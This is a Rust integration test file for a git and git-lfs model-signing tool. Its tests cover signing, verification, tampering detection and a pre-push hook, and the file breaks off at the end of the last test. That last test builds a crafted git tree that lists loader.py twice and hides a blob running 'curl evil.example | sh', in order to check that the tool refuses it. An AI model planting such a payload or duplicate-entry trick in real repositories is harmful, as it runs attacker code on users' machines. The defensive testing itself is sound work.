//! Git integration with real git and git-lfs: signing revisions from the object database
//! and LFS pointers, the stores (file, commit, notes), the reference on checkouts, and
//! the pre-push hook on real pushes.

mod common;
use common::*;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A sandbox: its own HOME and global git config, a model repository with LFS weights
/// pushed to a bare remote (LFS objects go to the remote's own `lfs/` store).
struct Sandbox {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    key: PathBuf,
    public: PathBuf,
}

const WEIGHTS: usize = 300_000;

impl Sandbox {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("home")).unwrap();
        let (key, public) = ec_keypair(&root, "prime256v1");
        let s = Sandbox {
            _tmp: tmp,
            root,
            key,
            public,
        };
        s.git_ok(
            &s.root,
            &["config", "--global", "user.name", "Model Signer"],
        );
        s.git_ok(
            &s.root,
            &["config", "--global", "user.email", "signer@example.com"],
        );
        s.git_ok(
            &s.root,
            &["config", "--global", "init.defaultBranch", "main"],
        );
        s.git_ok(&s.root, &["lfs", "install"]);
        s
    }

    fn env(&self, cmd: &mut Command) {
        let bin = Path::new(env!("CARGO_BIN_EXE_msign")).parent().unwrap();
        let path = format!(
            "{}:{}",
            bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        cmd.env("HOME", self.root.join("home"))
            .env("GIT_CONFIG_GLOBAL", self.root.join("home/.gitconfig"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("PATH", path)
            .env_remove("GIT_DIR")
            .env_remove("GIT_LFS_SKIP_SMUDGE");
    }

    fn git(&self, dir: &Path, args: &[&str]) -> Command {
        let mut c = Command::new("git");
        c.current_dir(dir).args(args);
        self.env(&mut c);
        c
    }

    fn git_ok(&self, dir: &Path, args: &[&str]) -> String {
        String::from_utf8(run_ok(&mut self.git(dir, args)).stdout).unwrap()
    }

    /// Runs git with `input` on its stdin; its stdout.
    fn git_stdin(&self, dir: &Path, args: &[&str], input: &[u8]) -> String {
        use std::io::Write;
        let mut c = self.git(dir, args);
        c.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        let mut child = c.spawn().unwrap();
        child.stdin.take().unwrap().write_all(input).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    }

    /// Writes a tree object with exactly these (mode, name, object id) entries, in this
    /// order: `git mktree` refuses crafted trees, `hash-object --literally` does not.
    fn raw_tree(&self, dir: &Path, entries: &[(&str, &str, &str)]) -> String {
        let mut raw = Vec::new();
        for (mode, name, oid) in entries {
            raw.extend_from_slice(format!("{mode} {name}\0").as_bytes());
            raw.extend_from_slice(&hex::decode(oid.trim()).unwrap());
        }
        let args = ["hash-object", "-t", "tree", "--literally", "-w", "--stdin"];
        self.git_stdin(dir, &args, &raw).trim().to_string()
    }

    /// The reference's `verify key` of `model` with `sig` and the sandbox's public key.
    fn reference_verify(&self, model: &Path, sig: &Path) -> Command {
        let mut c = reference_cli();
        c.args(["verify", "key"])
            .arg(model)
            .arg("--signature")
            .arg(sig)
            .arg("--public_key")
            .arg(&self.public);
        c
    }

    fn gms(&self, dir: &Path) -> Command {
        let mut c = git_model_sign();
        c.current_dir(dir);
        self.env(&mut c);
        c
    }

    fn msign(&self, dir: &Path) -> Command {
        let mut c = msign();
        c.current_dir(dir);
        self.env(&mut c);
        c
    }

    fn p(&self, name: &str) -> PathBuf {
        self.root.join(name)
    }

    /// `origin.git` (bare) holding a model repo `work` with LFS weights and small files.
    fn model_repo(&self) -> PathBuf {
        let work = self.p("work");
        std::fs::create_dir_all(&work).unwrap();
        self.git_ok(&self.root, &["init", "-q", "--bare", "origin.git"]);
        self.git_ok(&work, &["init", "-q"]);
        self.git_ok(&work, &["lfs", "track", "*.bin"]);
        let weights: Vec<u8> = (0..WEIGHTS as u32).map(|i| (i * 7 % 251) as u8).collect();
        std::fs::create_dir_all(work.join("weights")).unwrap();
        std::fs::write(work.join("weights/model-1.bin"), &weights).unwrap();
        std::fs::write(work.join("weights/model-2.bin"), b"second shard").unwrap();
        std::fs::write(work.join("config.json"), b"{\"layers\": 2}\n").unwrap();
        std::fs::write(work.join(".gitignore"), b"*.tmp\n").unwrap();
        // Looks like a pointer but is not one (uppercase hex): hashed as content.
        std::fs::write(
            work.join("fake-pointer.txt"),
            format!(
                "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 5\n",
                "AB".repeat(32)
            ),
        )
        .unwrap();
        std::fs::write(work.join("run.sh"), b"#!/bin/sh\necho hi\n").unwrap();
        self.git_ok(&work, &["update-index", "--chmod=+x", "--add", "run.sh"]);
        self.git_ok(&work, &["add", "."]);
        self.git_ok(&work, &["commit", "-q", "-m", "model v1"]);
        self.git_ok(&work, &["remote", "add", "origin", "../origin.git"]);
        self.git_ok(&work, &["push", "-q", "origin", "main"]);
        work
    }

    fn clone(&self, name: &str, skip_smudge: bool) -> PathBuf {
        self.clone_from("origin.git", name, skip_smudge)
    }

    /// Clones `src` (a path below the sandbox root) into `name`.
    fn clone_from(&self, src: &str, name: &str, skip_smudge: bool) -> PathBuf {
        let mut c = self.git(&self.root, &["clone", "-q", src, name]);
        if skip_smudge {
            c.env("GIT_LFS_SKIP_SMUDGE", "1");
        }
        run_ok(&mut c);
        self.root.join(name)
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn lfs_object_count(repo: &Path) -> usize {
    fn count(d: &Path) -> usize {
        let Ok(rd) = std::fs::read_dir(d) else {
            return 0;
        };
        rd.flatten()
            .map(|e| {
                if e.file_type().unwrap().is_dir() {
                    count(&e.path())
                } else {
                    1
                }
            })
            .sum()
    }
    count(&repo.join(".git/lfs/objects"))
}

/// The manifest part of `digest --json` (everything but the model name).
fn resources(json: &str) -> serde_json::Value {
    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
    v.as_object_mut().unwrap().remove("model_name");
    v.as_object_mut().unwrap().remove("name");
    v
}

#[test]
fn pointer_clone_signs_without_lfs_content_and_matches_a_checkout() {
    let s = Sandbox::new();
    s.model_repo();
    let ptr = s.clone("ptr", true);
    let full = s.clone("full", false);
    let pointer_text = std::fs::read_to_string(ptr.join("weights/model-1.bin")).unwrap();
    assert!(pointer_text.starts_with("version https://git-lfs.github.com/spec/v1"));
    assert_eq!(
        lfs_object_count(&ptr),
        0,
        "skip-smudge clone has no LFS objects"
    );
    assert_eq!(
        std::fs::metadata(full.join("weights/model-1.bin"))
            .unwrap()
            .len(),
        WEIGHTS as u64
    );

    // The git revision's manifest equals the checkout's, file for file.
    let from_git = run_ok(
        s.msign(&ptr)
            .args(["--json", "digest", "--git-rev", "HEAD"]),
    );
    let from_checkout = run_ok(s.msign(&s.root).args(["--json", "digest", "full"]));
    let (g, c) = (stdout(&from_git), stdout(&from_checkout));
    assert!(
        g.contains("weights/model-1.bin") && g.contains("fake-pointer.txt"),
        "{g}"
    );
    assert!(!g.contains("\"name\": \".git"), "{g}");
    assert_eq!(resources(&g), resources(&c));

    // Signing from pointers needs no LFS object and fetches none.
    let sig = s.p("ptr.sig");
    run_ok(
        s.gms(&ptr)
            .args(["sign", "key", "--private-key"])
            .arg(&s.key)
            .arg("--signature")
            .arg(&sig),
    );
    assert_eq!(lfs_object_count(&ptr), 0);

    // The reference verifies the git-made signature on a checkout with the LFS content.
    let out = run_ok(&mut s.reference_verify(&full, &sig));
    assert!(
        stdout(&out).contains("Verification succeeded"),
        "{}",
        stdout(&out)
    );

    // msign sign --git-rev makes the same signature content.
    let sig2 = s.p("msign.sig");
    run_ok(
        s.msign(&s.root)
            .args(["sign", "key", "--git-rev", "HEAD", "-C"])
            .arg(&ptr)
            .arg("--private-key")
            .arg(&s.key)
            .arg("--signature")
            .arg(&sig2),
    );
    run_ok(&mut s.reference_verify(&full, &sig2));

    // A tampered pointer fails: the same signature against a checkout whose weight changed.
    std::fs::write(full.join("weights/model-2.bin"), b"second shard, edited").unwrap();
    run_fails(&mut s.reference_verify(&full, &sig), 1);
}

#[test]
fn other_hashes_need_the_lfs_objects_and_check_them() {
    let s = Sandbox::new();
    s.model_repo();
    let ptr = s.clone("ptr", true);
    let full = s.clone("full", false);
    let out = run_fails(
        s.msign(&ptr)
            .args(["digest", "--git-rev", "HEAD", "--hash-algorithm", "blake3"]),
        3,
    );
    let err = stderr(&out);
    assert!(
        err.contains("weights/model-1.bin") && err.contains("weights/model-2.bin"),
        "{err}"
    );
    assert!(
        err.contains("git lfs fetch") || err.contains("lfs fetch origin"),
        "{err}"
    );

    s.git_ok(&ptr, &["lfs", "fetch", "origin", "HEAD"]);
    assert_eq!(lfs_object_count(&ptr), 2);
    for args in [
        &["--hash-algorithm", "blake3"][..],
        &["--hash-algorithm", "blake2"][..],
        &["--serialization", "shards", "--shard-size", "65536"][..],
    ] {
        let g = run_ok(
            s.msign(&ptr)
                .args(["--json", "digest", "--git-rev", "HEAD"])
                .args(args),
        );
        let c = run_ok(
            s.msign(&s.root)
                .args(["--json", "digest", "full"])
                .args(args),
        );
        assert_eq!(resources(&stdout(&g)), resources(&stdout(&c)), "{args:?}");
    }
    // The work tree is not read: it still holds pointers.
    assert!(std::fs::read_to_string(ptr.join("weights/model-1.bin"))
        .unwrap()
        .starts_with("version "));

    // `lfs.storage` moves the store; msign follows it.
    std::fs::rename(ptr.join(".git/lfs"), s.p("lfs-elsewhere")).unwrap();
    run_fails(
        s.msign(&ptr)
            .args(["digest", "--git-rev", "HEAD", "--hash-algorithm", "blake3"]),
        3,
    );
    s.git_ok(
        &ptr,
        &[
            "config",
            "lfs.storage",
            s.p("lfs-elsewhere").to_str().unwrap(),
        ],
    );
    run_ok(
        s.msign(&ptr)
            .args(["digest", "--git-rev", "HEAD", "--hash-algorithm", "blake3"]),
    );
    let ptr_objects = s.p("lfs-elsewhere/objects");

    // A corrupted local LFS object is caught by its sha256.
    let oid = stdout(&run_ok(&mut s.git(&full, &["lfs", "ls-files", "-l"])));
    let line = oid.lines().find(|l| l.ends_with("model-1.bin")).unwrap();
    let oid = line.split_whitespace().next().unwrap();
    let obj = ptr_objects.join(&oid[0..2]).join(&oid[2..4]).join(oid);
    let mut bytes = std::fs::read(&obj).unwrap();
    bytes[10] ^= 1;
    std::fs::write(&obj, &bytes).unwrap();
    let out = run_fails(
        s.msign(&ptr)
            .args(["digest", "--git-rev", "HEAD", "--hash-algorithm", "blake3"]),
        3,
    );
    assert!(
        stderr(&out).contains("not the pointer's oid"),
        "{}",
        stderr(&out)
    );
    // sha256 file serialization takes the pointer's oid and does not need the object.
    run_ok(s.msign(&ptr).args(["digest", "--git-rev", "HEAD"]));
}

#[test]
fn reference_signature_of_a_checkout_verifies_against_the_revision() {
    let s = Sandbox::new();
    s.model_repo();
    let full = s.clone("full", false);
    let ptr = s.clone("ptr", true);
    let sig = s.p("ref.sig");
    run_ok(
        reference_cli()
            .args(["sign", "key"])
            .arg(&full)
            .arg("--signature")
            .arg(&sig)
            .arg("--private_key")
            .arg(&s.key),
    );
    let out = run_ok(
        s.gms(&ptr)
            .args(["verify", "key", "HEAD", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
    );
    assert!(
        stdout(&out).contains("Verification succeeded"),
        "{}",
        stdout(&out)
    );
    run_ok(
        s.msign(&s.root)
            .args(["verify", "key", "--git-rev", "main", "-C"])
            .arg(&ptr)
            .arg("--public-key")
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
    );

    // A changed blob in a later commit does not verify against the old signature.
    std::fs::write(ptr.join("config.json"), b"{\"layers\": 3}\n").unwrap();
    s.git_ok(&ptr, &["commit", "-q", "-am", "more layers"]);
    let out = run_fails(
        s.gms(&ptr)
            .args(["verify", "key", "HEAD", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
        1,
    );
    assert!(stderr(&out).contains("config.json"), "{}", stderr(&out));
    // The work tree plays no part: the previous revision still verifies.
    run_ok(
        s.gms(&ptr)
            .args(["verify", "key", "HEAD~1", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
    );
}

#[test]
fn notes_store_and_tampering() {
    let s = Sandbox::new();
    let work = s.model_repo();
    let out = run_ok(
        s.gms(&work)
            .args(["sign", "key", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    assert!(stdout(&out).contains("git note"), "{}", stdout(&out));
    let head = s.git_ok(&work, &["rev-parse", "HEAD"]).trim().to_string();
    let notes = s.git_ok(&work, &["notes", "--ref", "model-signing", "list"]);
    assert!(notes.contains(&head), "{notes}");
    // The method can be left to the flags: `verify --public-key` is `verify key`.
    let out = run_ok(
        s.gms(&work)
            .args(["--json", "verify", "--public-key"])
            .arg(&s.public),
    );
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(v["signature_kind"], "note");

    // Tampered pointer: a new commit whose pointer names other content, with the note
    // copied over, fails.
    let pointer = std::fs::read_to_string(work.join("weights/model-2.bin")).unwrap();
    assert!(!pointer.starts_with("version"), "work tree has content");
    let blob = s.git_ok(&work, &["rev-parse", "HEAD:weights/model-2.bin"]);
    let real_pointer = s.git_ok(&work, &["cat-file", "-p", blob.trim()]);
    // Same size, other content: only the oid changes.
    let oid_at = real_pointer.find("sha256:").unwrap() + 7;
    let mut tampered = real_pointer.clone().into_bytes();
    tampered[oid_at] = if tampered[oid_at] == b'0' { b'1' } else { b'0' };
    let tampered = String::from_utf8(tampered).unwrap();
    assert_ne!(tampered, real_pointer);
    let new_blob = s.git_stdin(
        &work,
        &["hash-object", "-w", "--stdin"],
        tampered.as_bytes(),
    );
    s.git_ok(
        &work,
        &[
            "update-index",
            "--cacheinfo",
            &format!("100644,{},weights/model-2.bin", new_blob.trim()),
        ],
    );
    let tree = s.git_ok(&work, &["write-tree"]);
    let c2 = s.git_ok(
        &work,
        &[
            "commit-tree",
            tree.trim(),
            "-p",
            &head,
            "-m",
            "tampered pointer",
        ],
    );
    s.git_ok(
        &work,
        &["notes", "--ref", "model-signing", "copy", &head, c2.trim()],
    );
    let out = run_fails(
        s.gms(&work)
            .args(["verify", "key", c2.trim(), "--public-key"])
            .arg(&s.public),
        1,
    );
    assert!(
        stderr(&out).contains("weights/model-2.bin"),
        "{}",
        stderr(&out)
    );

    // Tampered note: one changed byte of the signature is caught.
    let note = s.git_ok(&work, &["notes", "--ref", "model-signing", "show", &head]);
    let mut v: serde_json::Value = serde_json::from_str(&note).unwrap();
    let sig = v["dsseEnvelope"]["signatures"][0]["sig"]
        .as_str()
        .unwrap()
        .to_string();
    let flipped = if sig.starts_with('M') {
        sig.replacen('M', "N", 1)
    } else {
        format!("M{}", &sig[1..])
    };
    v["dsseEnvelope"]["signatures"][0]["sig"] = serde_json::Value::String(flipped);
    s.git_ok(
        &work,
        &[
            "notes",
            "--ref",
            "model-signing",
            "add",
            "-f",
            "-m",
            &v.to_string(),
            &head,
        ],
    );
    run_fails(
        s.gms(&work)
            .args(["verify", "key", "--public-key"])
            .arg(&s.public),
        1,
    );
    // Garbage in a note is a verification failure, not a crash.
    s.git_ok(
        &work,
        &[
            "notes",
            "--ref",
            "model-signing",
            "add",
            "-f",
            "-m",
            "{not json",
            &head,
        ],
    );
    run_fails(
        s.gms(&work)
            .args(["verify", "key", "--public-key"])
            .arg(&s.public),
        1,
    );
}

#[test]
fn commit_store_adds_a_self_verifying_commit() {
    let s = Sandbox::new();
    let work = s.model_repo();
    let before = s.git_ok(&work, &["rev-parse", "HEAD"]).trim().to_string();
    std::fs::write(work.join("notes.tmp"), b"untracked, ignored").unwrap();
    let out = run_ok(
        s.gms(&work)
            .args(["sign", "key", "--store", "commit", "--private-key"])
            .arg(&s.key),
    );
    assert!(stdout(&out).contains("commit"), "{}", stdout(&out));
    let log = s.git_ok(&work, &["log", "-1", "--format=%B"]);
    assert!(
        log.contains(&before),
        "message names the signed commit: {log}"
    );
    assert_eq!(s.git_ok(&work, &["rev-parse", "HEAD~1"]).trim(), before);
    assert_eq!(
        s.git_ok(&work, &["status", "--porcelain"]),
        "",
        "work tree stays clean"
    );
    assert!(work.join("model.sig").exists());
    let changed = s.git_ok(&work, &["diff", "--name-only", "HEAD~1", "HEAD"]);
    assert_eq!(changed.trim(), "model.sig");

    let out = run_ok(
        s.gms(&work)
            .args(["--json", "verify", "key", "--public-key"])
            .arg(&s.public),
    );
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(v["signature_kind"], "tree");
    // And the reference verifies the checkout with the committed signature file (it
    // knows no .gitignore, so the ignored scratch file goes first).
    std::fs::remove_file(work.join("notes.tmp")).unwrap();
    run_ok(&mut s.reference_verify(&work, &work.join("model.sig")));
    // Detached HEAD cannot take a commit.
    s.git_ok(&work, &["checkout", "-q", "--detach"]);
    let out = run_fails(
        s.gms(&work)
            .args(["sign", "key", "--store", "commit", "--private-key"])
            .arg(&s.key),
        2,
    );
    assert!(stderr(&out).contains("detached"), "{}", stderr(&out));
}

#[test]
fn subfolder_symlinks_and_submodules() {
    let s = Sandbox::new();
    let work = s.model_repo();
    std::fs::create_dir_all(work.join("models/bert")).unwrap();
    std::fs::write(work.join("models/bert/w.bin"), b"bert weights").unwrap();
    std::fs::write(work.join("models/bert/.msignignore"), b"*.log\n").unwrap();
    std::fs::write(work.join("models/bert/train.log"), b"loss 0.1").unwrap();
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "bert"]);
    let g = run_ok(
        s.gms(&work)
            .args([
                "--json",
                "sign",
                "key",
                "--path",
                "models/bert",
                "--use-ignore-file",
                "--store",
                "notes",
                "--private-key",
            ])
            .arg(&s.key),
    );
    let v: serde_json::Value = serde_json::from_str(&stdout(&g)).unwrap();
    assert_eq!(v["model_name"], "bert");
    assert_eq!(
        v["files"], 2,
        "w.bin and .msignignore; train.log ignored: {v}"
    );
    let c = run_ok(s.msign(&work).args(["--json", "digest", "models/bert"]));
    let gd = run_ok(
        s.msign(&work)
            .args(["--json", "digest", "--git-rev", "HEAD", "models/bert"]),
    );
    assert_eq!(resources(&stdout(&gd)), resources(&stdout(&c)));

    // Symbolic links are refused unless allowed, then followed like on disk.
    std::os::unix::fs::symlink("w.bin", work.join("models/bert/link.bin")).unwrap();
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "link"]);
    let out = run_fails(
        s.msign(&work)
            .args(["digest", "--git-rev", "HEAD", "models/bert"]),
        3,
    );
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    let gd = run_ok(s.msign(&work).args([
        "--json",
        "digest",
        "--allow-symlinks",
        "--git-rev",
        "HEAD",
        "models/bert",
    ]));
    let c = run_ok(
        s.msign(&work)
            .args(["--json", "digest", "--allow-symlinks", "models/bert"]),
    );
    assert_eq!(resources(&stdout(&gd)), resources(&stdout(&c)));
    std::os::unix::fs::symlink("../../config.json", work.join("models/bert/out.json")).unwrap();
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "escaping link"]);
    let out = run_fails(
        s.msign(&work).args([
            "digest",
            "--allow-symlinks",
            "--git-rev",
            "HEAD",
            "models/bert",
        ]),
        3,
    );
    assert!(
        stderr(&out).contains("outside the model"),
        "{}",
        stderr(&out)
    );

    // A submodule (gitlink) is refused unless ignored.
    let head = s.git_ok(&work, &["rev-parse", "HEAD"]);
    s.git_ok(
        &work,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},vendor", head.trim()),
        ],
    );
    s.git_ok(&work, &["commit", "-q", "-m", "submodule"]);
    let out = run_fails(
        s.gms(&work)
            .args(["sign", "key", "--exclude", "models", "--private-key"])
            .arg(&s.key),
        3,
    );
    assert!(stderr(&out).contains("submodule"), "{}", stderr(&out));
    run_ok(s.msign(&work).args([
        "digest",
        "--git-rev",
        "HEAD",
        "--exclude",
        "/vendor",
        "--exclude",
        "models",
    ]));
}

#[test]
fn pre_push_hook_blocks_unsigned_and_passes_signed_pushes() {
    let s = Sandbox::new();
    s.model_repo();
    let dev = s.clone("dev", false);
    // git lfs install put its own hook there; msign's hook replaces it and runs it too.
    assert!(std::fs::read_to_string(dev.join(".git/hooks/pre-push"))
        .unwrap()
        .contains("git lfs pre-push"));
    run_ok(s.msign(&dev).args(["hook", "install"]));
    let hook = std::fs::read_to_string(dev.join(".git/hooks/pre-push")).unwrap();
    assert_eq!(
        hook,
        std::fs::read_to_string(repo().join("hooks/pre-push")).unwrap()
    );
    s.git_ok(
        &dev,
        &["config", "msign.publicKey", s.public.to_str().unwrap()],
    );
    // A different hook is not clobbered without --force.
    std::fs::write(dev.join(".git/hooks/pre-push"), "#!/bin/sh\necho mine\n").unwrap();
    run_fails(s.msign(&dev).args(["hook", "install"]), 2);
    run_ok(s.msign(&dev).args(["hook", "install", "--force"]));

    std::fs::write(dev.join("weights/model-3.bin"), vec![3u8; 5000]).unwrap();
    s.git_ok(&dev, &["add", "."]);
    s.git_ok(&dev, &["commit", "-q", "-m", "third shard"]);
    let head = s.git_ok(&dev, &["rev-parse", "HEAD"]).trim().to_string();
    let out = run_fails(&mut s.git(&dev, &["push", "origin", "main"]), 1);
    assert!(
        stderr(&out).contains("refusing to push"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("third shard"), "{}", stderr(&out));
    let remote_main = s.git_ok(&s.root.join("origin.git"), &["rev-parse", "main"]);
    assert_ne!(remote_main.trim(), head, "the push was blocked");

    // A note made with another key is no valid signature.
    let other = s.p("other");
    std::fs::create_dir_all(&other).unwrap();
    let (other_key, _) = ec_keypair(&other, "prime256v1");
    run_ok(
        s.gms(&dev)
            .args(["sign", "key", "--store", "notes", "--private-key"])
            .arg(&other_key),
    );
    run_fails(&mut s.git(&dev, &["push", "origin", "main"]), 1);

    run_ok(
        s.gms(&dev)
            .args(["sign", "key", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    let out = run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
    assert!(stderr(&out).contains("verified"), "{}", stderr(&out));
    let remote_main = s.git_ok(&s.root.join("origin.git"), &["rev-parse", "main"]);
    assert_eq!(remote_main.trim(), head);
    // The LFS object went along (msign's hook runs git lfs pre-push).
    let lfs_files = s.git_ok(&dev, &["lfs", "ls-files", "-l"]);
    let oid = lfs_files
        .lines()
        .find(|l| l.ends_with("model-3.bin"))
        .unwrap();
    let oid = oid.split_whitespace().next().unwrap();
    assert!(s
        .root
        .join("origin.git/lfs/objects")
        .join(&oid[0..2])
        .join(&oid[2..4])
        .join(oid)
        .exists());

    // A model commit followed by a `--store commit` signature commit passes: the second
    // commit's signature covers the first's identical model.
    std::fs::write(dev.join("weights/model-4.bin"), vec![4u8; 4000]).unwrap();
    s.git_ok(&dev, &["add", "."]);
    s.git_ok(&dev, &["commit", "-q", "-m", "fourth shard"]);
    run_ok(
        s.gms(&dev)
            .args(["sign", "key", "--store", "commit", "--private-key"])
            .arg(&s.key),
    );
    let out = run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
    assert!(
        stderr(&out).contains("HEAD:model.sig") || stderr(&out).contains("model.sig"),
        "{}",
        stderr(&out)
    );

    // A commit that does not touch the model folder needs no signature.
    s.git_ok(&dev, &["config", "msign.path", "weights"]);
    std::fs::write(dev.join("config.json"), b"{}\n").unwrap();
    s.git_ok(&dev, &["commit", "-q", "-am", "config only"]);
    run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
}

#[test]
fn pre_push_hook_in_sign_mode_signs_and_pushes_notes() {
    let s = Sandbox::new();
    s.model_repo();
    let dev = s.clone("dev", true);
    // `sign` here is the value of --mode, not msign's sign subcommand.
    run_ok(
        s.msign(&s.root)
            .args(["hook", "install", "--mode", "sign", "-C"])
            .arg(&dev),
    );
    assert_eq!(s.git_ok(&dev, &["config", "msign.mode"]).trim(), "sign");
    s.git_ok(&dev, &["config", "msign.key", s.key.to_str().unwrap()]);
    s.git_ok(&dev, &["checkout", "-q", "-b", "feature"]);
    std::fs::write(dev.join("config.json"), b"{\"layers\": 4}\n").unwrap();
    s.git_ok(&dev, &["commit", "-q", "-am", "deeper"]);
    let head = s.git_ok(&dev, &["rev-parse", "HEAD"]).trim().to_string();
    run_ok(&mut s.git(&dev, &["push", "origin", "feature"]));
    // What was pushed is what was committed; the note went along.
    let origin = s.root.join("origin.git");
    assert_eq!(s.git_ok(&origin, &["rev-parse", "feature"]).trim(), head);
    let notes = s.git_ok(&origin, &["notes", "--ref", "model-signing", "list"]);
    assert!(notes.contains(&head), "{notes}");
    // A fresh clone verifies from the pushed note, without LFS content.
    let check = s.clone("check", true);
    s.git_ok(
        &check,
        &[
            "fetch",
            "-q",
            "origin",
            "refs/notes/model-signing:refs/notes/model-signing",
        ],
    );
    let out = run_ok(
        s.gms(&check)
            .args(["verify", "key", "origin/feature", "--public-key"])
            .arg(&s.public),
    );
    assert!(stdout(&out).contains("git note"), "{}", stdout(&out));
}

#[test]
fn crafted_trees_are_refused_cleanly() {
    let s = Sandbox::new();
    let work = s.model_repo();
    let blob = s.git_ok(&work, &["rev-parse", "HEAD:config.json"]);
    let tree = s.git_ok(&work, &["rev-parse", "HEAD:weights"]);
    let (b, t) = (blob.trim(), tree.trim());
    let cases: &[&[(&str, &str, &str)]] = &[
        &[("100644", "a/b", b)],
        &[("100644", "..", b)],
        &[("100644", "same", b), ("100644", "same", b)],
        // git fsck's rules: a file and a folder of one name, apart in git's order...
        &[("100644", "a", b), ("100644", "a.b", b), ("40000", "a", t)],
        // ... and entries out of order.
        &[("100644", "b", b), ("100644", "a", b)],
        &[("40000", "a", t), ("100644", "a.b", b)],
    ];
    for entries in cases {
        let tree = s.raw_tree(&work, entries);
        let commit = s.git_ok(&work, &["commit-tree", &tree, "-m", "crafted"]);
        let out = run_fails(
            s.msign(&work).args(["digest", "--git-rev", commit.trim()]),
            3,
        );
        let err = stderr(&out);
        assert!(
            err.contains("crafted tree") && err.contains(&tree),
            "{entries:?}: {err}"
        );
    }
    // A crafted tree above the model folder is refused too.
    let root = s.raw_tree(&work, &[("40000", "models", t), ("40000", "models", t)]);
    let commit = s.git_ok(&work, &["commit-tree", &root, "-m", "crafted"]);
    let out = run_fails(
        s.msign(&work)
            .args(["digest", "--git-rev", commit.trim(), "--git-path", "models"]),
        3,
    );
    assert!(stderr(&out).contains("twice"), "{}", stderr(&out));
}

/// The tree of a commit lists `loader.py` (the signed blob), the weights, then `loader.py`
/// again (another blob), with the signed commit's note copied onto it. git checks the
/// second one out; every msign path refuses the tree.
#[test]
fn a_tree_naming_a_file_twice_is_refused_by_verify_sign_and_the_hook() {
    let s = Sandbox::new();
    s.model_repo();
    let dev = s.clone("dev", false);
    std::fs::write(dev.join("loader.py"), b"print('signed loader')\n").unwrap();
    s.git_ok(&dev, &["add", "loader.py"]);
    s.git_ok(&dev, &["commit", "-q", "-m", "loader"]);
    run_ok(
        s.gms(&dev)
            .args(["sign", "key", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    let signed = s.git_ok(&dev, &["rev-parse", "HEAD"]).trim().to_string();
    let sig = s.p("loader.sig");
    std::fs::write(
        &sig,
        s.git_ok(&dev, &["notes", "--ref", "model-signing", "show", &signed]),
    )
    .unwrap();

    let evil = s.git_stdin(
        &dev,
        &["hash-object", "-w", "--stdin"],
        b"import os\nos.system('curl evil.example | sh')\nprint('signed loader')\n",
    );
    let mut entries: Vec<(String, String, String)> = s
        .git_ok(&dev, &["ls-tree", "HEAD"])
        .lines()
        .map(|l| {
            let (meta, name) = l.split_once('\t').unwrap();
            let f: Vec<&str> = meta.split(' ').collect();
            (
                f[0].trim_start_matches('0').to_string(),
                name.to_string(),
                f[2].to_string(),
            )
        })
        .collect();
    let names: Vec<&str> = entries.iter().map(|e| e.1.as_str()).collect();
    assert_eq!(names.last(), Some(&"weights"), "{names:?}");
    entries.push(("100644".into(), "loader.py".into(), evil.trim().into()));
    let entries: Vec<(&str, &str, &str)> = entries
        .iter()
        .map(|(m, n, o)| (m.as_str(), n.as_str(), o.as_str()))
        .collect();
    let tree = s.raw_tree(&dev, &entries);
    let crafted = s
        .git_ok(
            &dev,
            &["commit-tree", &tree, "-p", &signed, "-m", "crafted"],
        )
        .trim()
        .to_string();
    s.git_ok(
        &dev,
        &["notes", "--ref", "model-signing", "copy", &signed, &crafted],
    );
    // What git checks out is the other blob.
    s.git_ok(
        &dev,
        &["worktree", "add", "-q", "--detach", "../seen", &crafted],
    );
    assert!(std::fs::read_to_string(s.p("seen/loader.py"))
        .unwrap()
        .contains("evil.example"));

    let refused = |out: &Output| {
        let err = stderr(out);
        assert!(
            err.contains("loader.py") && err.contains("twice") && err.contains(&crafted),
            "{err}"
        );
    };
    refused(&run_fails(
        s.msign(&dev)
            .args(["verify", "key", "--git-rev", &crafted, "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
        3,
    ));
    refused(&run_fails(
        s.gms(&dev)
            .args(["verify", "key", &crafted, "--public-key"])
            .arg(&s.public),
        3,
    ));
    let resigned = s.p("crafted.sig");
    refused(&run_fails(
        s.msign(&dev)
            .args(["sign", "key", "--git-rev", &crafted, "--private-key"])
            .arg(&s.key)
            .arg("--signature")
            .arg(&resigned),
        3,
    ));
    assert!(!resigned.exists());
    // The honest commit still verifies.
    run_ok(
        s.msign(&dev)
            .args(["verify", "key", "--git-rev", &signed, "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
    );

    // The pre-push hook shares the path: pushing the crafted commit is refused.
